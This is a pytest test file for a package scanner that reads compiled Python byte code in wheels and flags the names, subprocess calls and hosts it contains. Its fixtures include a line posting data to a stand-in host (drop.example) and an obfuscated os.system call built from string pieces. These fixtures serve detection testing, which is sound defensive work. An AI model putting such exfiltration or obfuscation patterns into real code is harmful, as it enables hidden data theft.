"""Byte code is read for its names and texts, by any version's layout; its source beside it explains it."""

from __future__ import annotations

import importlib.util
import marshal
import random
import struct

import pytest

from app.core.finding import Reach
from app.core.specimen import ArtifactFacts, ArtifactKind, FileFacts
from tests.detectors.artifacts import METADATA, Files, facts_of, sdist, wheel
from worker.inspection.facts.python.marshalled import NotByteCode, read

SOURCE = '''"""Harmless."""
import os.path
LIMIT = 3000000000000
SHARE = 0.5

def where(name, *, root="."):
    """Join
    with a root."""
    return [os.path.join(root, part) for part in name.split("\\n") if part != (1, "two")]
'''
INFO = "imgpress-3.0.0.dist-info/METADATA"
ACTING = 'import subprocess\n\ndef go(words):\n    return subprocess.Popen(words, env={"A": "b"})\n'


def compiled(source: str) -> bytes:
    """What this interpreter writes into a cache. Nothing is run."""
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "mod.py", "exec"))


def of(path: str, artifact: ArtifactFacts) -> FileFacts:
    return next(file for file in artifact.files if file.path == path)


def _text(text: str) -> bytes:
    return b"z" + bytes([len(text)]) + text.encode()


def _tuple(*items: bytes) -> bytes:
    return b")" + bytes([len(items)]) + b"".join(items)


def written(magic: int, header: int, numbers: int, *, modern: bool, old_texts: bool = False) -> bytes:
    """Byte code as another version's compiler lays it out: one function inside one module."""

    def text(word: str) -> bytes:
        return b"t" + struct.pack("<i", len(word)) + word.encode() if old_texts else _text(word)

    def sequence(*items: bytes) -> bytes:
        return b"(" + struct.pack("<i", len(items)) + b"".join(items) if old_texts else _tuple(*items)

    def code(line: int, consts: bytes, *names: str) -> bytes:
        named = sequence(*(text(name) for name in names))
        empty, blob = sequence(), b"s" + struct.pack("<i", 4) + b"\x64\x00\x53\x00"
        fields = [blob, consts, named, empty, blob if modern else empty]
        fields += [text("mod.py"), text("where"), text("where")] if modern else [empty, text("mod.py"), text("where")]
        tail = [blob, blob] if modern else [blob]
        return b"c" + bytes(4 * numbers) + b"".join(fields) + struct.pack("<i", line) + b"".join(tail)

    inner = code(7, sequence(b"N", text("run it")), "os", "system")
    whole = code(1, sequence(b"i\x05\0\0\0", inner, b"g" + bytes(8), b"l\x03\0\0\0" + bytes(6)), "os", "subprocess")
    return magic.to_bytes(2, "little") + b"\r\n" + bytes(header - 4) + whole


VERSIONS = {
    "2.7": written(62211, 8, 4, modern=False, old_texts=True),
    "3.1": written(3151, 8, 5, modern=False),
    "3.6": written(3379, 12, 5, modern=False),
    "3.7": written(3394, 16, 5, modern=False),
    "3.8": written(3413, 16, 6, modern=False),
    "3.10": written(3439, 16, 6, modern=False),
    "3.11": written(3495, 16, 5, modern=True),
    "3.13": written(3571, 16, 5, modern=True),
    "3.14": written(3627, 16, 5, modern=True),
}


class TestReading:
    @pytest.mark.parametrize("content", VERSIONS.values(), ids=VERSIONS.keys())
    def test_the_layout_of_each_version_is_known(self, content: bytes) -> None:
        found = read(content)
        assert [(unit.line, unit.names) for unit in found.units] == [(7, ("os", "system")), (1, ("os", "subprocess"))]
        assert found.texts == ["run it"]

    def test_what_this_interpreter_writes_is_read(self) -> None:
        found = read(compiled(SOURCE))
        names = {name for unit in found.units for name in unit.names}
        assert {"os.path", "join", "split", "LIMIT"} <= names
        assert "Harmless." in found.texts

    @pytest.mark.parametrize(
        ("content", "cause"),
        [
            (b"", "no magic number"),
            (b"import os\n# no byte code", "no magic number"),
            (b"\xff\xff\r\n" + bytes(20), "of no version of Python that is known"),
            (compiled("x = 1")[:-9], "ends early"),
            (compiled("x = 1")[:16] + b"N", "holds no code"),
            (compiled("x = 1")[:16] + b"(\x01\0\0\0" * 5000, "nested deeper"),
            (compiled("x = 1")[:16] + b"(\xff\xff\xff\x7f", "more than a compiler makes"),
            (compiled("x = 1")[:16] + b"(" + struct.pack("<i", 499_999) + b"N" * 9, "ends early"),
        ],
    )
    def test_what_is_no_byte_code_is_refused_with_its_cause(self, content: bytes, cause: str) -> None:
        with pytest.raises(NotByteCode, match=cause):
            read(content)

    def test_a_byte_wrong_anywhere_ends_as_a_value_or_a_refusal(self) -> None:
        content, chance = bytearray(compiled(SOURCE)), random.Random(7)
        refused = 0
        for _ in range(3000):
            broken = bytearray(content)
            broken[chance.randrange(4, len(content))] = chance.randrange(256)
            try:
                read(bytes(broken))
            except NotByteCode:
                refused += 1
        assert refused > 300


class TestFacts:
    def test_a_module_without_its_source_shows_what_it_names_and_is_partly_examined(self) -> None:
        found = of("imgpress/agent.pyc", wheel({"imgpress/agent.pyc": compiled(ACTING), "imgpress/__init__.py": ""}))
        assert [(fact.id, fact.line, fact.detail) for fact in found.facts] == [("process", 3, "subprocess.Popen")]
        assert found.partly == "byte code: Assay reads the names in it, and not what it does with them"

    def test_hosts_in_its_texts_are_those_that_it_may_talk_to(self) -> None:
        source = "import requests\n\ndef send(text):\n    requests.post('https://drop.example/x', data=text)\n"
        file = of("imgpress/_core.pyc", wheel({"imgpress/_core.pyc": compiled(source)}))
        assert {host for fact in file.facts for host in fact.hosts} == {"drop.example"}
        assert "drop.example" in {fact.detail for fact in file.facts}

    def test_one_that_names_nothing_of_consequence_is_examined(self) -> None:
        found = of("imgpress/agent.pyc", wheel({"imgpress/agent.pyc": compiled(SOURCE)}))
        assert (found.facts, found.partly) == ((), None)

    @pytest.mark.parametrize("source", ["import os\ngetattr(os, 'sys' + 'tem')('id')\n", "exec('x = 1')\n"])
    def test_one_that_reaches_names_that_it_does_not_write_is_partly_examined(self, source: str) -> None:
        assert of("imgpress/agent.pyc", wheel({"imgpress/agent.pyc": compiled(source)})).partly

    def test_what_it_loads_is_reached(self) -> None:
        files: Files = {
            "setup.py": "import build_it\n",
            "build_it.pyc": compiled("import deep\n"),
            "deep.py": "x = 1\n",
        }
        assert of("deep.py", sdist(files)).reach is Reach.INSTALL

    def test_what_cannot_be_read_says_so(self) -> None:
        found = of("imgpress/agent.pyc", wheel({"imgpress/agent.pyc": b"\0\0\0\0"}))
        assert found.partly == "byte code that cannot be read: it has no magic number of Python"


class TestBesideItsSource:
    CACHE = f"imgpress/__pycache__/agent.{importlib.util.MAGIC_NUMBER.hex()}.pyc"

    @pytest.mark.parametrize("order", [1, -1], ids=["the source first", "the byte code first"])
    def test_byte_code_that_its_source_explains_is_examined(self, order: int) -> None:
        """The shape of a source distribution into which a cache slipped."""
        files: Files = {"imgpress/agent.py": ACTING, self.CACHE: compiled(ACTING)}
        found = of(self.CACHE, wheel(dict(list(files.items())[::order])))
        assert (found.facts, found.partly) == ((), None)

    def test_it_is_explained_beside_an_old_version_with_the_same_source(self) -> None:
        old = {"imgpress/agent.py": ACTING, "imgpress/__init__.py": ""}
        files: Files = {**old, self.CACHE: compiled(ACTING)}
        new = facts_of({**files, INFO: METADATA}, ArtifactKind.WHEEL, before=wheel(old))
        assert of(self.CACHE, new).partly is None

    def test_one_more_word_than_the_source_has_is_not_explained(self) -> None:
        files: Files = {"imgpress/agent.py": ACTING, self.CACHE: compiled(ACTING.replace("words,", "['sh'],"))}
        assert of(self.CACHE, wheel(files)).partly

    def test_an_ability_that_stands_in_a_comment_only_is_not_explained(self) -> None:
        files: Files = {
            "imgpress/agent.py": "# import subprocess; go words Popen env\nx = 1\n",
            self.CACHE: compiled(ACTING),
        }
        found = of(self.CACHE, wheel(files))
        assert [fact.id for fact in found.facts] == ["process"]
        assert found.partly
